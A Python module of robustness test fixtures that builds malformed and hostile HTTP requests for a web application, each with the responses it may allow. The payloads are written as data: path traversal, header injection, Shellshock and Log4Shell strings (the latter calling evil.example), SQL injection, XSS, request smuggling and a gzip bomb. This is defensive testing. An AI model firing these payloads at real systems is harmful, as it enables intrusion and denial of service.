"""The table of bad requests: what is wrong with each, its bytes, and how it may be answered.

In a head, {path} is a route's address and {host} the site's name. Texts are Latin-1: one character is one byte.
"""

import gzip
import re
from dataclasses import dataclass

USUAL = frozenset({-1})  # as if nothing were wrong: the status that the plain request gets
NO_PAGE = frozenset({404})
NOT_SO = frozenset({400})
MOVED = frozenset({301, 302, 303})
NO_METHOD = frozenset({403, 404, 405})
NO_FORM = frozenset({400, 403, 404, 405, 410, 413, 422})  # no letter, no such link, no cookie of the desk


@dataclass(frozen=True)
class Bad:
    """One kind of bad request. `by_server`: granian may refuse it before the application sees it."""

    name: str
    head: str
    body: bytes
    allowed: frozenset[int]
    by_server: bool = False

    def to(self, path: str, host: str) -> bytes:
        """Its bytes, for one address of one site; {rest} is the address without its language."""
        rest = re.sub(r"^/(en|de)(?=/)", "", path)
        head = self.head.replace("{path}", path).replace("{rest}", rest).replace("{host}", host)
        return head.encode("latin-1") + self.body


def get(
    name: str, allowed: frozenset[int], *, method: str = "GET", path: str = "{path}", version: str = "HTTP/1.1",
    host: str = "Host: {host}\r\n", more: str = "", by_server: bool = False,
) -> Bad:  # fmt: skip
    """A request without a body; `more` are further header lines."""
    lines = "".join(f"{line}\r\n" for line in more.split("\r\n") if more)
    head = f"{method} {path} {version}\r\n{host}{lines}Connection: close\r\n\r\n"
    return Bad(name, head, b"", allowed, by_server)


FORM = "application/x-www-form-urlencoded"


def post(
    name: str, body: bytes, kind: str = FORM, *, allowed: frozenset[int] = NO_FORM, length: str | None = "",
    more: str = "", by_server: bool = False,
) -> Bad:  # fmt: skip
    """A form that nobody could have filled in; `length` is what Content-Length says where it lies."""
    lines = [f"Content-Type: {kind}"] if kind else []
    lines += [] if length is None else [f"Content-Length: {length or len(body)}"]
    lines += [more] if more else []
    found = get(name, allowed, method="POST", more="\r\n".join(lines), by_server=by_server)
    return Bad(name, found.head, body, allowed, by_server)


METHODS = [
    *(
        get(f"method {name}", NO_METHOD, method=name)
        for name in (
            "PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "CONNECT", "PROPFIND", "MKCOL", "SEARCH", "PURGE", "DEBUG",
            "BREW",
        )
    ),
    get("a method in small letters", USUAL, method="get"),
    get("a method that is very long", NO_METHOD, method="G" * 5_000),
    get("a method of signs", NO_METHOD | NOT_SO, method="!#$%&'*+-.^_`|~", by_server=True),
    get("no method", NOT_SO, method="", by_server=True),
    get("a method with a NUL", NOT_SO, method="GE\0T", by_server=True),
    get("a method in Greek", NOT_SO, method="\xce\x93\xce\x95\xce\xa4", by_server=True),
    get("OPTIONS for everything", NO_METHOD, method="OPTIONS", path="*"),
    get("GET for everything", NO_PAGE | NOT_SO, path="*", by_server=True),
    get("CONNECT to another site", NO_METHOD | NOT_SO, method="CONNECT", path="evil.example:443", by_server=True),
    get("the head alone", USUAL, method="HEAD"),
]  # fmt: skip

LANGUAGES = [
    *(
        get(f"language {name}", NO_PAGE, path=f"/{name}{{rest}}")
        for name in ("xx", "fr", "zh-hans", "EN", "e", "en-", "..")
    ),
    get("a language of 5,000 letters", NO_PAGE, path="/" + "en-" * 1_700 + "{rest}"),
    get("a language that is a NUL", NO_PAGE, path="/%00{rest}"),
    get("a language twice", NO_PAGE, path="/en/de{rest}"),
]  # fmt: skip

PATHS = [
    *(
        get(f"a path that ends in {ending[:30]!r}", NO_PAGE | MOVED, path="{path}" + ending)
        for ending in (
            "%00", "%0a", "%0d%0aSet-Cookie:%20a=b", "%ff%fe", "%c0%ae%c0%ae/", "%c0%af", "%e0%80%af", "%f0%80%80%af",
            "%ed%a0%80", "%u0041", "%zz", "%", "%2", "%25%30%30", "../../etc/passwd", "..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/", "..%5c..%5c", "..;/", ";x=1/", "//", "/./", "%2f", "%09", "%20", "%7f", "%e2%80%ae", "'",
            "%22", "%3cscript%3e", "{{7*7}}", "${7*7}", "$(id)", "%0a%0d", "*", "@evil.example/", ":80/", ".php",
            ".env", ".git/config", "wp-login.php", "~", "%F0%9F%92%A9/", "x" * 8_000, "a/" * 3_000, "%41" * 5_000,
        )
    ),
    *(
        get(f"a path with the byte {byte!r}", NO_PAGE | NOT_SO | MOVED, path=f"{{path}}{byte}x/", by_server=True)
        for byte in (
            "\0", "\x01", "\x08", "\x1b", "\x7f", "\x80", "\xff", "\xc3\x28", "\t", " ", "\\", "^", "|", "\"", "<",
        )
    ),
    get("a path of 80,000 letters", frozenset({301, 404, 414, 431}), path="{path}" + "a" * 80_000, by_server=True),
    get("two slashes before it", NO_PAGE, path="/{path}"),
    get("another site after two slashes", NO_PAGE, path="//evil.example{path}"),
    get("a backslash before it", NO_PAGE, path="/\\evil.example{path}"),
    get("a dot before it", NO_PAGE, path="/.{path}"),
    get("up and down again", NO_PAGE, path="/x/..{path}"),
    get("no path at all", NOT_SO, path="", by_server=True),
    get("no slash before it", NOT_SO | MOVED, path="en", by_server=True),
    get("a fragment", USUAL, path="{path}#x"),
    get("an address with the site's name", USUAL, path="http://{host}{path}"),
    get("an address with another site's name", NOT_SO | USUAL, path="http://evil.example{path}"),
    get("an address of another kind", NOT_SO | NO_PAGE | USUAL, path="ftp://{host}{path}", by_server=True),
    get("a path that is a file", NOT_SO | NO_PAGE, path="file:///etc/passwd", by_server=True),
]  # fmt: skip

QUERIES = [
    get(f"the query {query[:30]!r}", USUAL, path="{path}?" + query)
    for query in (
        "%00", "country=%00", "country=%ff%fe", "country=%c0%ae", "country=" + "x" * 5_000, "country=DE&country=IE",
        "country[]=DE", "country[$ne]=1", "country=../../etc/passwd", "country='%20OR%201=1--", "office=%00",
        "office=-1", "office=99999999999999999999", "office=1e9", "office=%F0%9F%92%A9", "language=%00", "language=xx",
        "next=https://evil.example/", "next=//evil.example", "next=javascript:alert(1)", "rehearsal=%3cscript%3e",
        "&&&&",
        "=", "==", "?", "a=b;c=d", "%", "a%", "%zz=%zz", "page=-1", "page=%00", "q=" + "%00" * 500, "format=json",
        "debug=1",
        "utm_source=" + "x" * 3_000, "a=%0d%0aSet-Cookie:%20b=c", "csrfmiddlewaretoken=x",
    )
] + [
    get("a query of 1,000 fields", USUAL | NOT_SO, path="{path}?" + "&".join(f"a{n}=1" for n in range(1_000))),
    get("a query of bytes", USUAL | NOT_SO, path="{path}?country=\xff\xfe", by_server=True),
    get("a query of markup", USUAL | NOT_SO, path="{path}?country=<script>", by_server=True),
    get("a query of 5,000 signs", USUAL | NOT_SO, path="{path}?" + "&" * 5_000),
]  # fmt: skip

HOSTS = [
    *(
        get(f"the host {host[:30]!r}", NOT_SO, host=f"Host: {host}\r\n", by_server=True)
        for host in (
            "evil.example", "{host}.evil.example", "evil.example:443", "{host}:abc", "{host}@evil.example", "a b",
            "<script>", "..", "{host}/evil", "[::1", "[::1]", "\xff\xfe", "x" * 3_000, "127.0.0.1:65536",
            "{host},evil.example", "0", "localhost", "-", "*",
        )
    ),
    get("an empty host", NOT_SO, host="Host: \r\n"),
    get("no host", NOT_SO, host="", by_server=True),
    get("two hosts", NOT_SO, host="Host: {host}\r\nHost: evil.example\r\n", by_server=True),
    get("two hosts, the other way", NOT_SO, host="Host: evil.example\r\nHost: {host}\r\n", by_server=True),
    get("a host with a port that is none", USUAL | NOT_SO, host="Host: {host}:99999999\r\n"),
    get("the host in capitals", USUAL, host="HOST: APPEALS.EXAMPLE.ORG\r\n"),
    *(
        get(f"{name}: another site", USUAL, more=f"{name}: evil.example")
        for name in ("X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-Original-URL", "X-Rewrite-URL", "Forwarded")
    ),
]  # fmt: skip

HEADERS = [
    get(f"{name}: {value[:30]!r}", USUAL, more=f"{name}: {value}")
    for name, value in (
        ("Range", "bytes=0-1"), ("Range", "bytes=5-1"), ("Range", "bytes=abc"), ("Range", "bytes=" + "0-1," * 1_000),
        ("If-Modified-Since", "yesterday"), ("If-Modified-Since", "Thu, 99 Xxx 99999 99:99:99 GMT"),
        ("If-Modified-Since", "Thu, 01 Jan 0000 00:00:00 GMT"), ("If-Unmodified-Since", "x"), ("If-None-Match", "\""),
        ("If-None-Match", "*"), ("If-None-Match", "\xff"), ("If-Match", "x"), ("If-Range", "x"),
        ("Accept", "*"), ("Accept", "text/html;q=abc"), ("Accept", "/" * 3_000), ("Accept", "\xff"),
        ("Accept-Encoding", "br;q=2, gzip;q=x"), ("Accept-Encoding", "gzip" * 1_000), ("Accept-Encoding", "\xff\xfe"),
        ("Accept-Charset", "utf-7"), ("Cookie", "=;=;="), ("Cookie", "sessionid"), ("Cookie", "__Host-sessionid=\xff"),
        ("Cookie", "__Host-sessionid=" + "x" * 8_000), ("Cookie", "__Host-csrftoken=../x"), ("Cookie", "a=b;" * 2_000),
        ("Cookie", "messages=\"[[\\\"__json_message\\\"]]\""), ("Cookie", "django_language=../../x"), ("Cookie", "\""),
        ("Authorization", "Basic"), ("Authorization", "Basic \xff"), ("Authorization", "Basic Og=="),
        ("Authorization", "Bearer " + "x" * 5_000), ("Expect", "100-continue"), ("Upgrade", "websocket"),
        ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"), ("Max-Forwards", "0"), ("TE", "x"),
        ("X-HTTP-Method-Override", "DELETE"), ("X-Requested-With", "XMLHttpRequest"), ("X-Forwarded-Proto", "gopher"),
        ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-For", "\xff"), ("X-Forwarded-For", "1," * 3_000),
        ("X-Real-IP", "x"), ("Forwarded", "for=\"[\""), ("Origin", "null"), ("Origin", "\xff"), ("Referer", "\xff"),
        ("Referer", "https://evil.example/" + "x" * 5_000), ("User-Agent", "\xff" * 500), ("User-Agent", "() { :;};"),
        ("User-Agent", "${jndi:ldap://evil.example/a}"), ("From", "x"), ("Via", "1.1 x"), ("Content-Encoding", "gzip"),
        ("Content-Type", "\xff"), ("Proxy", "http://evil.example"), ("X-A", "a" * 60_000), ("Sec-Fetch-Site", "x"),
        ("Accept-Language", "x" * 3_000), ("Accept-Language", "de;q=abc"), ("Accept-Language", "*;q=0,,;,-"),
        ("Accept-Language", "\xff\xfe"), ("Accept-Language", "de-" * 1_000), ("Accept-Language", "de," * 3_000),
        ("Accept-Language", "../../de"), ("Accept-Language", "a;q=1" * 200), ("Accept-Language", "i-klingon, x-y"),
    )
] + [
    get("a header with a NUL", NOT_SO, more="X-A: a\0b", by_server=True),
    get("a header with a line feed alone", USUAL | NOT_SO, more="X-A: a\nX-B: b", by_server=True),
    get("a header with a return alone", NOT_SO, more="X-A: a\rX-B: b", by_server=True),
    get("a header in two lines", NOT_SO | USUAL, more="X-A: a\r\n b", by_server=True),
    get("a header without a name", NOT_SO, more=": a", by_server=True),
    get("a header without a colon", NOT_SO, more="Nonsense", by_server=True),
    get("a header with a space in its name", NOT_SO, more="X A: a", by_server=True),
    get("a header with a space before its colon", NOT_SO | USUAL, more="X-A : a", by_server=True),
    get("a header with an underscore", USUAL, more="Content_Length: 5"),
    get("1,000 headers", frozenset({431}), more="\r\n".join(f"X-{n}: a" for n in range(1_000)), by_server=True),
    get("a header of half a megabyte", USUAL | {431}, more="X-A: " + "a" * 500_000, by_server=True),
    get("a name of 60,000 letters", NOT_SO | USUAL | {431}, more="X" * 60_000 + ": a", by_server=True),
]  # fmt: skip

PLAIN = get("plain", USUAL).head
VERSIONS = [
    get("HTTP/1.0 without a host", NOT_SO, version="HTTP/1.0", host=""),
    get("HTTP/1.0", USUAL, version="HTTP/1.0"),
    *(
        get(f"the version {version!r}", NOT_SO, version=version, by_server=True)
        for version in (
            "HTTP/0.9", "HTTP/1.2", "HTTP/3", "HTTP/11", "HTTP/-1.1", "http/1.1", "HTTP/1.1 ", "HTTP", "\0", "SMTP/1.0",
        )
    ),
    Bad("no version, as in 1991", "GET {path}\r\n\r\n", b"", NOT_SO, by_server=True),
    Bad("line feeds alone", PLAIN.replace("\r", ""), b"", USUAL | NOT_SO, by_server=True),
    Bad("empty lines first", f"\r\n\r\n{PLAIN}", b"", USUAL | NOT_SO, by_server=True),
    Bad("a greeting of TLS", "", bytes.fromhex("16030100f8010000f40303") + b"\0" * 200, NOT_SO, by_server=True),
    Bad("a greeting of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\0" * 9, NOT_SO, by_server=True),
    Bad("a greeting of SSH", "SSH-2.0-OpenSSH_9.6\r\n\r\n", b"", NOT_SO, by_server=True),
    Bad("a greeting of SMTP", "EHLO evil.example\r\n\r\n", b"", NOT_SO, by_server=True),
    Bad("bytes by chance", "", bytes(range(256)) * 8 + b"\r\n\r\n", NOT_SO, by_server=True),
]  # fmt: skip

CHUNKS = b"3\r\na=b\r\n0\r\n\r\n"
SECOND = b"GET /en/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
LENGTHS = [
    post("a length below nothing", b"a=b", length="-1", by_server=True),
    post("a length of letters", b"a=b", length="abc", by_server=True),
    post("a length with a sign", b"a=b", length="+3", by_server=True),
    post("a length in hexadecimal", b"a=b", length="0x3", by_server=True),
    post("a length with a comma", b"a=b", length="3, 3", by_server=True),
    post("a length past every number", b"a=b", length="9" * 30, by_server=True),
    post("a length in Arabic digits", b"a=b", length="\xd9\xa3", by_server=True),
    post("no length", b"", length=None),
    post("two lengths", b"a=b", more="Content-Length: 4", by_server=True),
    post("two lengths that agree", b"a=b", more="Content-Length: 3", by_server=True),
    post("a length and chunks", CHUNKS, length="3", more="Transfer-Encoding: chunked", by_server=True),
    *(
        post(name, body, length=None, more=f"Transfer-Encoding: {coding}", by_server=True)
        for name, body, coding in (
            ("chunks", CHUNKS, "chunked"),
            ("chunks without a size", b"\r\na=b\r\n0\r\n\r\n", "chunked"),
            ("chunks of a size in letters", b"ZZ\r\na=b\r\n0\r\n\r\n", "chunked"),
            ("chunks below nothing", b"-3\r\na=b\r\n0\r\n\r\n", "chunked"),
            ("chunks past every number", b"f" * 40 + b"\r\na=b\r\n0\r\n\r\n", "chunked"),
            ("chunks with long extensions", b"3;" + b"x" * 20_000 + b"\r\na=b\r\n0\r\n\r\n", "chunked"),
            ("chunks with a trailer", b"3\r\na=b\r\n0\r\nX-A: b\r\n\r\n", "chunked"),
            ("chunks that end in a second request", b"0\r\n\r\n" + SECOND, "chunked"),
            ("chunks that are no chunks", CHUNKS, "chunked, identity"),
            ("chunks that are spelled otherwise", CHUNKS, "xchunked"),
            ("a coding nobody knows", b"", "gzip"),
        )
    ),
]  # fmt: skip

EDGE = "----edge"
PARTS = f"multipart/form-data; boundary={EDGE}"


def part(head: str, content: bytes = b"x", edge: str = EDGE) -> bytes:
    return f"--{edge}\r\n{head}\r\n\r\n".encode("latin-1") + content + b"\r\n"


def disposition(name: str, file: str = "") -> str:
    return f'Content-Disposition: form-data; name="{name}"' + (f'; filename="{file}"' if file else "")


CODING = "Content-Transfer-Encoding"
END = f"--{EDGE}--\r\n".encode()
BODIES = [
    post("nothing", b""),
    post("nothing, and no kind", b"", ""),
    post("one sign", b"="),
    post("signs", b"&=&=&=;;;"),
    post("a NUL", b"name=\0&email=%00"),
    post("control characters", b"name=%01%02%1b%7f&own_words=%08"),
    post("a line break in every field", b"name=a%0d%0ab&email=a%0d%0aBcc:%20x@example.org&country=%0d%0a"),
    post("UTF-8 cut off", b"name=%e2%82&email=%f0%9f"),
    post("UTF-8 that is none", b"name=\xff\xfe&email=\xc0\xae"),
    post("overlong UTF-8", b"name=%c0%bc&email=%e0%80%bc"),
    post("half a pair", b"name=%ed%a0%80"),
    post("signs that turn the text round", b"name=%e2%80%aegpj.exe&town=%e2%81%a6"),
    post("a field 200 times", b"&".join([b"name=Anna"] * 190)),
    post("201 fields", b"&".join(b"f%d=1" % n for n in range(201)), allowed=NOT_SO | {403, 404}),
    post("10,000 fields", b"&".join(b"f%d=1" % n for n in range(10_000)), allowed=NOT_SO | {403, 404}),
    post("a field of 200,000 letters", b"own_words=" + b"x" * 200_000),
    post("a field of two megabytes", b"own_words=" + b"x" * 2_000_000, allowed=NOT_SO | {403, 404}),
    post("a field name of 200,000 letters", b"x" * 200_000 + b"=1"),
    post("a token that is long", b"token=" + b"A" * 100_000),
    post("a token of nonsense", b"token=W10:x:y&email=anna@example.org&name=Anna&country=DE"),
    post("a token in Greek", b"token=%ce%b1%3a%ce%b2"),
    post("lists and objects", b"name[]=a&name[b]=c&points[0]=1&points[__proto__]=2"),
    post("numbers that are none", b"points=1e9&points=NaN&points=-1&points=%D9%A3&points=99999999999999999999"),
    post("a country that is none", b"country=../../etc/passwd&named_as=king"),
    post("a formula", b"name=%3Dcmd|'/C calc'!A0"),
    post("a script", b"name=<script>alert(1)</script>&own_words={{7*7}}${7*7}"),
    post("percent signs", b"name=%&email=%zz&country=%u0041"),
    post("a bomb of gzip", gzip.compress(b"\0" * 10_000_000), more="Content-Encoding: gzip"),
    post("what is called gzip and is none", b"a=b", more="Content-Encoding: gzip"),
    *(
        post(f"the charset {charset[:20]!r}", b"name=+AG4-", f"{FORM}; charset={charset}")
        for charset in ("utf-7", "utf-16", "nonsense", "\xff", "x" * 5_000, "\"", "zip", "rot13", "idna", "undefined")
    ),
    *(
        post(f"the kind {kind[:30]!r}", b'{"name": "Anna", "email": null}', kind)
        for kind in (
            "application/json", "text/plain", "application/xml", "image/svg+xml", "x", "/", ";", "\xff\xfe",
            "a" * 8_000,
            "multipart/mixed; boundary=x", "application/x-www-form-urlencoded\tx", "text/html; charset=utf-7",
        )
    ),
    *(
        post(f"parts of {kind[:50]!r}", part(disposition("name")) + END, kind)
        for kind in (
            "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=\xff",
            "multipart/form-data; boundary=other", "multipart/form-data; boundary=" + "x" * 300,
            "multipart/form-data; boundary=\"", f"{PARTS}; charset=utf-7", f"{PARTS}; charset=none",
            f"{PARTS}; boundary=b",
        )
    ),
    *(
        post(f"parts {name}", body, PARTS)
        for name, body in (
            ("that never end", part(disposition("name"))),
            ("that never begin", END),
            ("of nothing", b""),
            ("of bytes by chance", bytes(range(256)) * 100),
            ("without a name", part("Content-Disposition: form-data") + END),
            ("without a head", part("") + END),
            ("with a name that is broken", part('Content-Disposition: form-data; name="a') + END),
            ("with a name of 100,000 letters", part(disposition("a" * 100_000)) + END),
            ("with a name in RFC 2231", part("Content-Disposition: form-data; name*=x'y'%ff%00") + END),
            ("with a name in no charset", part("Content-Disposition: form-data; name*=nonsense''%ff") + END),
            ("with a file", part(disposition("name", "a.exe")) + END),
            ("with a file of a long name", part(disposition("file", "a" * 5_000)) + END),
            ("with a file that climbs", part(disposition("file", "../../../etc/passwd")) + END),
            ("with a file that has a NUL", part(disposition("file", "a\0.exe")) + END),
            ("with 1,000 files", b"".join(part(disposition(f"f{n}", "a")) for n in range(1_000)) + END),
            ("with 1,000 fields", b"".join(part(disposition(f"f{n}")) for n in range(1_000)) + END),
            ("in base64 that is none", part(f"{disposition('name')}\r\n{CODING}: base64", b"===\xff") + END),
            ("in a coding nobody knows", part(f"{disposition('name')}\r\n{CODING}: x", b"a") + END),
            ("of parts", part("Content-Type: multipart/mixed; boundary=in", part(disposition("a"), edge="in")) + END),
            ("with a head of 100,000 letters", part("X-A: " + "a" * 100_000) + END),
            ("with NULs", part(disposition("name"), b"\0" * 1_000) + END),
            ("in bare line feeds", (part(disposition("name")) + END).replace(b"\r\n", b"\n")),
            ("of 300 kilobytes", part(disposition("own_words"), b"x" * 300_000) + END),
        )
    ),
]  # fmt: skip

TOKENS = [
    "-", ".", "%00", "%ff", "%20", "x", "x" * 42, "x" * 44, "x" * 5_000, "=" * 43, "%F0%9F%92%A9" * 43, "..", "%2e%2e",
    "'%20OR%201=1", "%3Cscript%3E", "None", "null", "0", "-1", "%0d%0a", "A" * 43 + "%00", "%D9%A3" * 43, "\xca\xbc",
]  # fmt: skip

TO_EVERY_ROUTE = [*METHODS, *LANGUAGES, *PATHS, *QUERIES, *HOSTS, *HEADERS, *VERSIONS]
TO_EVERY_FORM = [*LENGTHS, *BODIES]
